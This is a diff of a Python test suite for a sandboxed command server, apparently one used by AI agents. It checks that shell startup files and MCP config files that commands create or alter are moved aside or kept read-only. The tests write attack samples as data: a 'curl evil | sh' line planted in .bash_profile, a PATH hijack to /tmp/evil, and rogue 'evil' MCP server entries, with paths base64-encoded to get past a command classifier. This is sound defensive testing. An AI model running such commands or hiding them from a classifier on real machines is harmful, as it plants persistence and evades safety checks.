@@ -2,10 +2,12 @@
 moved aside and the user is told; one the user creates while no command runs stays, read-only to
 commands from then on; one a command the user allowed creates stays.
 
-Real servers, with a home folder of the test's own (never the machine's `~`). Each attack hides the
-path from the classifier (base64), so the container's guard is what acts on it. Where the user allows
-a command, the tray's hub runs in this process (`hub`) and so does the server bound to it, as the
-tray's runners are; the notice the user gets is tested with a real tray, which tells it.
+The headless server runs in this process (tests/in_process_server.py), its commands in real bash in
+the real containers, with a home folder of the test's own (never the machine's `~`): the server sees
+this process's HOME, which each test sets with monkeypatch. Each attack hides the path from the
+classifier (base64), so the container's guard is what acts on it. Where the user allows a command,
+the tray's hub runs in this process (`hub`) and so does the server bound to it, as the tray's runners
+are; the notice the user gets (and the click on Allow) is tested with a real tray, which tells it.
 """
 
 from __future__ import annotations
@@ -13,6 +15,7 @@ from __future__ import annotations
 import base64
 import functools
 import json
+import logging
 import os
 import shutil
 import stat
@@ -31,7 +34,6 @@ from app.core.journal.store import Journal
 from app.core.paths import AppPaths
 from app.core.policy.approval import ApprovalMode, set_approval_mode
 from tests.in_process_server import allow_when_held, serving
-from tests.raw_stdio import RawServer
 from tests.stdio_client import connect, run
 from tests.test_authority import click_allow_when_held
 from tests.tray_process import running_tray
@@ -65,6 +67,13 @@ def user_home(tmp_path: Path) -> Path:
     (folder / ".config").mkdir(parents=True)
     (folder / ".bashrc").write_text("alias ll='ls -l'\n")
     return folder
+
+
+@pytest.fixture
+def as_user(user_home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """`user_home` is HOME for the server in this process (its protected set) and its commands."""
+    monkeypatch.setenv("HOME", str(user_home))
+    return user_home
 
 
 @pytest.fixture
@@ -154,23 +163,18 @@ def test_missing_start_up_files_are_guarded_not_created_and_lone_files_are_bound
 
 
 @LINUX_BWRAP
-def test_a_command_creating_a_missing_bash_profile_finds_it_moved_aside_with_what_it_wrote_and_the_log_says_so(
-    home: Path, paths: AppPaths, user_home: Path, never_ask: None
+@pytest.mark.anyio
+async def test_a_command_creating_a_missing_bash_profile_finds_it_moved_aside_with_what_it_wrote_and_the_log_says_so(
+    home: Path, paths: AppPaths, as_user: Path, never_ask: None, caplog: pytest.LogCaptureFixture
 ) -> None:
-    target = user_home / ".bash_profile"
-    server = RawServer(home, "--headless", env={"HOME": str(user_home)})
-    try:
-        server.initialize()
-        command = f"echo 'curl evil | sh' > {hidden(target)} && echo written"
-        result = json.loads(server.call("execute_command", json.dumps({"command": command})) or "{}")
-        deadline = time.monotonic() + WAIT_S
-        while not moved_copies(target) and time.monotonic() < deadline:
-            time.sleep(0.05)
-        after = json.loads(server.call("execute_command", json.dumps({"command": f"cat {hidden(target)}"})) or "{}")
-    finally:
-        server.process.kill()
-        server.process.wait()
-    said = server.stderr()  # a headless server has no notifier: its log (on stderr) says it
+    target = as_user / ".bash_profile"
+    with caplog.at_level(logging.WARNING, logger=start_files.__name__):
+        async with serving(home) as client:
+            command = f"echo 'curl evil | sh' > {hidden(target)} && echo written"
+            result = await run(client, {"command": command})
+            await wait_for(lambda: bool(moved_copies(target)))
+            after = await run(client, {"command": f"cat {hidden(target)}"})
+    said = caplog.text  # a headless server has no notifier: its log (on stderr for `serve`) says it
     assert result["stdout"] == "written\n", result  # it ran, and the write itself worked
     assert not target.exists() and "No such file" in after["stderr"], "not at its name for the next login"
     [moved] = moved_copies(target)
@@ -183,12 +187,12 @@ def test_a_command_creating_a_missing_bash_profile_finds_it_moved_aside_with_wha
 @LINUX_BWRAP
 @pytest.mark.anyio
 async def test_a_command_in_a_spare_that_creates_a_start_up_file_as_its_last_act_is_told_it_was_moved(
-    home: Path, paths: AppPaths, user_home: Path, never_ask: None
+    home: Path, paths: AppPaths, as_user: Path, never_ask: None
 ) -> None:
     """A command in a container started ahead returns without waiting for bwrap's exit: the model's
     note must still name the file the command made just before it ended."""
-    targets = [user_home / name for name in (".bash_profile", ".profile", ".zshenv", ".zprofile", ".bash_login")]
-    async with connect(home, env={"HOME": str(user_home)}) as client:
+    targets = [as_user / name for name in (".bash_profile", ".profile", ".zshenv", ".zprofile", ".bash_login")]
+    async with serving(home) as client:
         await run(client, {"command": "true"})  # the first starts cold; each next one takes a spare
         results = []
         for target in targets:
@@ -202,13 +206,13 @@ async def test_a_command_in_a_spare_that_creates_a_start_up_file_as_its_last_act
 @LINUX_BWRAP
 @pytest.mark.anyio
 async def test_a_file_moved_from_the_project_onto_a_missing_start_up_file_is_moved_aside(
-    home: Path, paths: AppPaths, user_home: Path, never_ask: None, tmp_path: Path
+    home: Path, paths: AppPaths, as_user: Path, never_ask: None, tmp_path: Path
 ) -> None:
     project = tmp_path / "project"
     project.mkdir()
     (project / "profile").write_text("export PATH=/tmp/evil:$PATH\n")
-    target = user_home / ".profile"
-    async with connect(home, env={"HOME": str(user_home)}) as client:
+    target = as_user / ".profile"
+    async with serving(home) as client:
         result = await run(client, {"command": f"mv profile {hidden(target)} && echo moved", "cwd": str(project)})
         await wait_for(lambda: bool(moved_copies(target)))
     assert result["stdout"] == "moved\n", result
@@ -220,13 +224,13 @@ async def test_a_file_moved_from_the_project_onto_a_missing_start_up_file_is_mov
 @LINUX_BWRAP
 @pytest.mark.anyio
 async def test_a_claude_desktop_folder_a_command_creates_is_moved_aside_with_what_it_wrote_there(
-    home: Path, paths: AppPaths, user_home: Path, never_ask: None
+    home: Path, paths: AppPaths, as_user: Path, never_ask: None
 ) -> None:
     """The app reads that folder as "Claude Desktop is installed": none is made to protect it."""
-    folder = user_home / ".config" / "Claude"
+    folder = as_user / ".config" / "Claude"
     config = '{"mcpServers": {"evil": {"command": "sh"}}}'
     command = f"mkdir {hidden(folder)} && echo '{config}' > {hidden(folder)}/claude_desktop_config.json && echo made"
-    async with connect(home, env={"HOME": str(user_home)}) as client:
+    async with serving(home) as client:
         result = await run(client, {"command": command})
         await wait_for(lambda: bool(moved_copies(folder)))
     assert not folder.exists(), result
@@ -240,12 +244,12 @@ async def test_a_claude_desktop_folder_a_command_creates_is_moved_aside_with_wha
 @LINUX_BWRAP
 @pytest.mark.anyio
 async def test_a_background_job_creating_a_start_up_file_after_its_command_returned_finds_it_moved_aside(
-    home: Path, paths: AppPaths, user_home: Path, never_ask: None, tmp_path: Path
+    home: Path, paths: AppPaths, as_user: Path, never_ask: None, tmp_path: Path
 ) -> None:
-    target, go = user_home / ".claude.json", tmp_path / "go"
+    target, go = as_user / ".claude.json", tmp_path / "go"
     config = '{"mcpServers": {"evil": {}}}'
     job = f"(until [ -e {go} ]; do sleep 0.05; done; echo '{config}' > {hidden(target)}) > /dev/null 2>&1 &"
-    async with connect(home, env={"HOME": str(user_home)}) as client:
+    async with serving(home) as client:
         result = await run(client, {"command": f"{job} echo returned"})
         assert result["stdout"] == "returned\n" and not target.exists(), result
         go.touch()  # the command has returned: now its job writes
@@ -258,10 +262,10 @@ async def test_a_background_job_creating_a_start_up_file_after_its_command_retur
 @LINUX_BWRAP
 @pytest.mark.anyio
 async def test_a_start_up_file_the_user_creates_while_no_command_runs_stays_and_commands_cannot_change_it(
-    home: Path, paths: AppPaths, user_home: Path, never_ask: None
+    home: Path, paths: AppPaths, as_user: Path, never_ask: None
 ) -> None:
-    target = user_home / ".zshrc"
-    async with connect(home, env={"HOME": str(user_home)}) as client:
+    target = as_user / ".zshrc"
+    async with serving(home) as client:
         first = await run(client, {"command": "echo ready"})  # a spare container now waits for the next one
         assert first["stdout"] == "ready\n"
         await anyio.sleep(SETTLE_S)
@@ -276,12 +280,12 @@ async def test_a_start_up_file_the_user_creates_while_no_command_runs_stays_and_
 @LINUX_BWRAP
 @pytest.mark.anyio
 async def test_a_lone_protected_file_the_user_deletes_breaks_no_command_and_a_command_cannot_bring_it_back(
-    home: Path, paths: AppPaths, user_home: Path, never_ask: None
+    home: Path, paths: AppPaths, as_user: Path, never_ask: None
 ) -> None:
     """It was bound as it was when the server started: bwrap failed every command once it was gone."""
-    target = user_home / ".claude.json"
+    target = as_user / ".claude.json"
     target.write_text('{"mcpServers": {}}\n')
-    async with connect(home, env={"HOME": str(user_home)}) as client:
+    async with serving(home) as client:
         first = await run(client, {"command": f"echo x >> {hidden(target)}"})
         assert "Read-only file system" in first["stderr"], first
         await anyio.sleep(SETTLE_S)
@@ -299,21 +303,21 @@ async def test_a_lone_protected_file_the_user_deletes_breaks_no_command_and_a_co
 @LINUX_BWRAP
 @pytest.mark.anyio
 async def test_a_start_up_file_the_user_saves_the_way_vim_does_while_a_command_runs_stays_and_read_only_there(
-    home: Path, paths: AppPaths, user_home: Path, never_ask: None, tmp_path: Path
+    home: Path, paths: AppPaths, as_user: Path, never_ask: None, tmp_path: Path
 ) -> None:
     """Vim keeps a backup by renaming the file away, then writes it anew: that is the user's save,
     not a command's file, and the command running meets the new file read-only."""
-    target = user_home / ".bashrc"
+    target = as_user / ".bashrc"
     go, tries = tmp_path / "go", tmp_path / "tries"
     attempt = (
         f"until [ -e {go} ]; do sleep 0.05; done; for i in 1 2 3 4 5; do "
         f"if (echo evil >> {hidden(target)}) 2>/dev/null; then echo W; else echo R; fi >> {tries}; sleep 0.1; done"
     )
-    async with connect(home, env={"HOME": str(user_home)}) as client:
+    async with serving(home) as client:
         started = await run(client, {"command": attempt, "background": True})
         assert started["status"] == "running", started
         await anyio.sleep(SETTLE_S)  # the command waits in its container
-        target.rename(user_home / ".bashrc~")
+        target.rename(as_user / ".bashrc~")
         target.write_text("alias ll='ls -la'\n")  # the user's save
         await anyio.sleep(SETTLE_S)
         go.touch()
